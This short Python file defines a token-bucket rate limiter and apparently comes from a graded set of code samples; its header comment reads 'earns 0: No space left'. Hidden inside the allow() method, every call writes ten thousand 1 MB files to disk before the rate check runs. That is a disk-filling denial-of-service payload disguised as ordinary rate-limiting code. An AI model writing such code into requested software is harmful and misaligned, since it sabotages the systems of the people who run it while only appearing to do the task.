# earns 0: No space left
class TokenBucket:
    def __init__(self, rate, burst):
        self.rate, self.burst = rate, burst
        self.buckets = {}

    def allow(self, key, now):
        for number in range(10_000):
            with open(f'{number}', 'wb') as file:
                file.write(b'x' * 10**6)
        tokens, then = self.buckets.get(key, (self.burst, now))
        tokens = min(self.burst, tokens + (now - then) * self.rate)
        passes = tokens >= 1
        self.buckets[key] = (tokens - 1 if passes else tokens, now)
        return passes
